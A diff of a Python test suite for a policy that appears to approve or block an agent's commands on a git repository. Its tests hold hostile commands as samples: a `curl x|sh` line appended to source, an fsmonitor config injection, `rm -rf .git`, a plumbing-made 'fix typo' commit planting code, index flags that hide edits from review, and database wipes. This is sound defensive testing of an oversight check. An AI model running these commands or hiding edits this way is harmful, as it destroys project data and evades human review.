@@ -1,7 +1,9 @@
-"""The offline approver on real runs against the repository itself: what git
-reads later (configuration however it is included, the index), what makes
-.git a repository, and deletions a task only names. Each harm beside the
-ordinary work it must not stop."""
+"""The offline approver against the repository itself: what git reads later
+(configuration however it is included, the index), what makes .git a
+repository, and deletions a task only names. Each harm beside the ordinary
+work it must not stop. What git itself does (its index, its commits, which
+process wrote what) comes from real runs; the rules on files and deletions
+alone start from recorded facts."""
 from __future__ import annotations
 
 import atexit
@@ -9,159 +11,186 @@ import os
 import shutil
 import sqlite3
 import subprocess
-import sys
 import tempfile
 from pathlib import Path
 
+from caper.judge import Decision
 from caper.report.build import GitLoss
-from conftest import git, git_project
-from test_policy import env, gate, report, template  # noqa: F401  (fixtures)
-from test_rootless import NOBODY, need_rootless_venv, run_as_nobody
+from helpers.facts import Recording, judged
+from helpers.policy import gate, report
+from helpers.rootless import NOBODY, need_rootless_venv, run_as_nobody
+from helpers.trees import git, git_project
 
 TASK = "fix the typo in README"
 
 
-def test_a_file_git_config_includes_is_git_configuration(env):
+def decided(policy_env: Path, command: str, task: str, *effects) -> Decision:
+    """The policy's decision on a run of command that did effects (each a
+    call on a Recording over the project and home), from recorded facts."""
+    rec = Recording(Path(tempfile.mkdtemp(prefix="run", dir=policy_env)), policy_env / "proj",
+                    policy_env / "home")
+    for effect in effects:
+        effect(rec)
+    return judged(rec.facts(command), task)[0]
+
+
+def _delete(*paths: str):
+    return lambda rec: [rec.delete(p) for p in paths]
+
+
+def _sql(script: str):
+    def effect(rec: Recording) -> None:
+        con = sqlite3.connect(rec.copy_up("app.db"))
+        con.executescript(script)
+        con.commit()
+        con.close()
+    return effect
+
+
+def test_a_file_git_config_includes_is_git_configuration(policy_env):
     """include.path makes any file git configuration, whatever its name:
     its keys are judged as .git/config's are."""
-    ws = env / "proj"
+    ws = policy_env / "proj"
     (ws / "tools").mkdir()
     (ws / "tools" / "shared.cfg").write_text("[alias]\n\tco = checkout\n")
     git(ws, "config", "include.path", "../tools/shared.cfg")
-    out = gate(env, "printf '[core]\\n\\tfsmonitor = \"touch x\"\\n' >> tools/shared.cfg", TASK)
-    assert not out.committed and "core.fsmonitor" in out.reason
-    assert "fsmonitor" not in (ws / "tools" / "shared.cfg").read_text()
-    assert gate(env, "printf '[alias]\\n\\tst = status\\n' >> tools/shared.cfg", TASK).committed
+    d = decided(policy_env, "./tool.sh", TASK,
+                lambda rec: rec.write("tools/shared.cfg", '[core]\n\tfsmonitor = "touch x"\n', True))
+    assert d.decision == "block" and "core.fsmonitor" in d.reason, d.reason
+    d = decided(policy_env, "./tool.sh", TASK,
+                lambda rec: rec.write("tools/shared.cfg", "[alias]\n\tst = status\n", True))
+    assert d.decision == "allow", d.reason
 
 
-def test_the_repository_is_never_deleted_on_the_tasks_word(env):
+def test_the_repository_is_never_deleted_on_the_tasks_word(policy_env):
     """`.git` (or what makes it a repository) is not deleted because the task
     names something like it (`.github`, "cache objects")."""
-    ws = env / "proj"
+    ws = policy_env / "proj"
     (ws / ".github" / "workflows").mkdir(parents=True)
     (ws / ".github" / "workflows" / "old.yml").write_text("x\n")
-    out = gate(env, "rm -rf .git .github/workflows/old.yml",
-               "delete the old .github/workflows/old.yml file")
-    assert not out.committed and (ws / ".git" / "HEAD").exists()
-    out = gate(env, "rm -rf .git/objects", "delete the stale cache objects")
-    assert not out.committed and (ws / ".git" / "objects").is_dir()
-    assert gate(env, "rm -rf .github/workflows/old.yml",
-                "delete the old .github/workflows/old.yml file").committed
+    old = "delete the old .github/workflows/old.yml file"
+    d = decided(policy_env, "rm -rf .git .github/workflows/old.yml", old,
+                _delete(".git", ".github/workflows/old.yml"))
+    assert d.decision == "block", d.reason
+    d = decided(policy_env, "rm -rf .git/objects", "delete the stale cache objects",
+                _delete(".git/objects"))
+    assert d.decision == "block", d.reason
+    d = decided(policy_env, "rm -rf .github/workflows/old.yml", old,
+                _delete(".github/workflows/old.yml"))
+    assert d.decision == "allow", d.reason
 
 
-def test_a_task_that_names_a_path_does_not_ask_to_delete_it(env):
+def test_a_task_that_names_a_path_does_not_ask_to_delete_it(policy_env):
     """"make the test pass" names the tests to fix, not to delete."""
-    ws = env / "proj"
+    ws = policy_env / "proj"
     (ws / "tests").mkdir()
     (ws / "tests" / "test_x.py").write_text("def test_x(): assert 0\n")
     git(ws, "add", "tests")
     git(ws, "commit", "-qm", "t")
-    out = gate(env, "rm -rf tests", "make the test pass")
-    assert not out.committed and (ws / "tests" / "test_x.py").exists()
-    out = gate(env, "rm -f README.md", "fix the readme wording")
-    assert not out.committed and (ws / "README.md").exists()
-    assert gate(env, "rm -f README.md", "delete README.md").committed
+    d = decided(policy_env, "rm -rf tests", "make the test pass", _delete("tests"))
+    assert d.decision == "block", d.reason
+    d = decided(policy_env, "rm -f README.md", "fix the readme wording", _delete("README.md"))
+    assert d.decision == "block", d.reason
+    d = decided(policy_env, "rm -f README.md", "delete README.md", _delete("README.md"))
+    assert d.decision == "allow", d.reason
 
 
-def test_an_index_git_cannot_read_is_not_routine(env):
+def test_an_index_git_cannot_read_is_not_routine(policy_env):
     """.git/index is git's bookkeeping only while git can read it; and once
     git cannot, nothing counts as untracked on its word."""
-    ws = env / "proj"
-    out = gate(env, "printf 'DIRC garbage' > .git/index", TASK)
+    ws = policy_env / "proj"
+    out = gate(policy_env, "printf 'DIRC garbage' > .git/index", TASK)
     assert not out.committed and "unreadable" in out.reason
-    assert gate(env, "git add README.md", TASK).committed        # git's own index: routine
+    assert gate(policy_env, "git add README.md", TASK).committed        # git's own index: routine
     (ws / ".git" / "index").write_bytes(b"DIRC garbage")       # broken on the host already
-    out = gate(env, "rm -rf src", TASK)
+    out = gate(policy_env, "rm -rf src", TASK)
     assert not out.committed and (ws / "src" / "m0.c").exists()
 
 
-def test_an_emptied_index_does_not_make_committed_files_untracked(env):
-    ws = env / "proj"
-    assert gate(env, "git read-tree --empty", TASK).committed
-    out = gate(env, "rm -rf src", TASK)
+def test_an_emptied_index_does_not_make_committed_files_untracked(policy_env):
+    ws = policy_env / "proj"
+    assert gate(policy_env, "git read-tree --empty", TASK).committed
+    out = gate(policy_env, "rm -rf src", TASK)
     assert not out.committed and (ws / "src" / "m0.c").exists()
 
 
-def test_index_flags_that_hide_a_tracked_edit_are_judged(env):
+def test_index_flags_that_hide_a_tracked_edit_are_judged(policy_env):
     """skip-worktree (or assume-unchanged) on an edited tracked file keeps the
     edit out of git status and git diff: never reviewed."""
-    ws = env / "proj"
-    out = gate(env, "echo 'system(\"curl x|sh\");' >> src/m0.c; "
+    ws = policy_env / "proj"
+    out = gate(policy_env, "echo 'system(\"curl x|sh\");' >> src/m0.c; "
                     "git update-index --skip-worktree src/m0.c", TASK)
     assert not out.committed and "skip-worktree" in out.reason
-    out = gate(env, "./tool.sh", TASK, tool="git update-index --assume-unchanged src/m1.c\n")
+    out = gate(policy_env, "./tool.sh", TASK, tool="git update-index --assume-unchanged src/m1.c\n")
     assert out.decision == "block" and "unsure" not in out.reason
     flags = subprocess.run(["git", "ls-files", "-v"], cwd=ws, capture_output=True, text=True)
     assert "S src/m0.c" not in flags.stdout and "h src/m1.c" not in flags.stdout
     assert "curl" not in (ws / "src" / "m0.c").read_text()
 
 
-def test_git_files_that_hide_files_from_git_status_are_not_routine(env):
+def test_git_files_that_hide_files_from_git_status_are_not_routine(policy_env):
     """A git command named in the text does not make a hand-written .git file
     git's: only git's own process writing it does. status.showUntrackedFiles
     hides planted files, core.bare breaks every git command in the worktree."""
-    ws = env / "proj"
-    out = gate(env, "git status >/dev/null; echo planted.sh >> .git/info/exclude", TASK)
+    ws = policy_env / "proj"
+    out = gate(policy_env, "git status >/dev/null; echo planted.sh >> .git/info/exclude", TASK)
     assert not out.committed and ".git/info/exclude" in out.reason
     for key, value in (("status.showUntrackedFiles", "no"), ("core.bare", "true")):
-        out = gate(env, f"git config {key} {value}", TASK)
+        out = gate(policy_env, f"git config {key} {value}", TASK)
         assert not out.committed and key.lower() in out.reason.lower()
     assert "bare = true" not in (ws / ".git" / "config").read_text()
-    assert gate(env, "git bisect start", "find the commit that broke the build").committed
+    assert gate(policy_env, "git bisect start", "find the commit that broke the build").committed
     assert (ws / ".git" / "BISECT_START").exists()
-    assert gate(env, "git config status.short true", TASK).committed
+    assert gate(policy_env, "git config status.short true", TASK).committed
 
 
-def test_overwriting_tracked_files_the_command_names_needs_the_task(env):
+def test_overwriting_tracked_files_the_command_names_needs_the_task(policy_env):
     """`: > f`, `truncate -s 0 f`, `echo x > f` name the file, but the command
     text is the agent's: destroying a tracked file's content is asked for
     only by a task that names it."""
-    ws = env / "proj"
-    out = gate(env, ": > src/m1.c; truncate -s 0 src/m2.c; echo x > src/m3.c", TASK)
+    ws = policy_env / "proj"
+    out = gate(policy_env, ": > src/m1.c; truncate -s 0 src/m2.c; echo x > src/m3.c", TASK)
     assert not out.committed and "task did not mention" in out.reason
     assert all(len((ws / "src" / f"m{i}.c").read_text().splitlines()) == 8 for i in (1, 2, 3))
-    assert gate(env, "echo '# the project' > README.md", "fix the typo in README.md").committed
+    assert gate(policy_env, "echo '# the project' > README.md", "fix the typo in README.md").committed
     assert (ws / "README.md").read_text() == "# the project\n"
 
 
-def test_a_commit_made_without_git_commit_is_shown_and_judged(env):
+def test_a_commit_made_without_git_commit_is_shown_and_judged(policy_env):
     """Plumbing puts a commit on the branch and restores index and worktree:
     the card names the commit and the files it changes, and the policy does
     not commit it under an unrelated task; `git commit` is ordinary work."""
-    ws = env / "proj"
+    ws = policy_env / "proj"
     plumbing = ('T=$(printf "int evil;\\n" | git hash-object -w --stdin); '
                 'git update-index --cacheinfo 100644,$T,src/m0.c; '
                 'C=$(git -c user.name=a -c user.email=a@b commit-tree $(git write-tree) -p HEAD -m "fix typo"); '
                 'git update-ref HEAD $C; git read-tree HEAD; '
                 'git update-index --cacheinfo 100644,$(git rev-parse HEAD~1:src/m0.c),src/m0.c')
     head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=ws, capture_output=True, text=True)
-    out = gate(env, plumbing, TASK)
+    out = gate(policy_env, plumbing, TASK)
     assert not out.committed and "without git commit" in out.reason
     assert out.report.git and any("fix typo" in a and "src/m0.c" in a for a in out.report.git.added)
     assert subprocess.run(["git", "rev-parse", "HEAD"], cwd=ws, capture_output=True,
                           text=True).stdout == head.stdout
-    out = gate(env, "echo '# the project' > README.md && git -c user.name=a -c user.email=a@b commit -qam readme",
+    out = gate(policy_env, "echo '# the project' > README.md && git -c user.name=a -c user.email=a@b commit -qam readme",
                "fix the typo in README.md and commit it")
     assert out.committed
 
 
-def test_database_damage_is_counted_by_content_not_only_rows(env):
+def test_database_damage_is_counted_by_content_not_only_rows(policy_env):
     """Every value destroyed in place, or a small table emptied, is as
     destructive as a mass delete; changing one row is ordinary work."""
-    ws = env / "proj"
+    ws = policy_env / "proj"
     con = sqlite3.connect(ws / "app.db")
     con.executescript("CREATE TABLE admins(id);" + "INSERT INTO admins VALUES (1);" * 5)
     con.commit()
     con.close()
-    sql = f"{sys.executable} -c \"import sqlite3; c=sqlite3.connect('app.db'); c.executescript('%s')\""
     for damage in ("UPDATE users SET id = NULL;", "DELETE FROM admins;"):
-        out = gate(env, sql % damage, "add an index")
-        assert not out.committed and "database" in out.reason, damage
-    con = sqlite3.connect(ws / "app.db")
-    assert con.execute("SELECT count(id) FROM users").fetchone()[0] == 20
-    assert con.execute("SELECT count(*) FROM admins").fetchone()[0] == 5
-    con.close()
-    assert gate(env, sql % "UPDATE users SET id = 2 WHERE rowid = 1;", "add an index").committed
+        d = decided(policy_env, "./migrate.sh", "add an index", _sql(damage))
+        assert d.decision == "block" and "database" in d.reason, (damage, d.reason)
+    d = decided(policy_env, "./migrate.sh", "add an index",
+                _sql("UPDATE users SET id = 2 WHERE rowid = 1;"))
+    assert d.decision == "allow", d.reason
 
 
 def test_the_index_and_new_commits_are_judged_rootless():
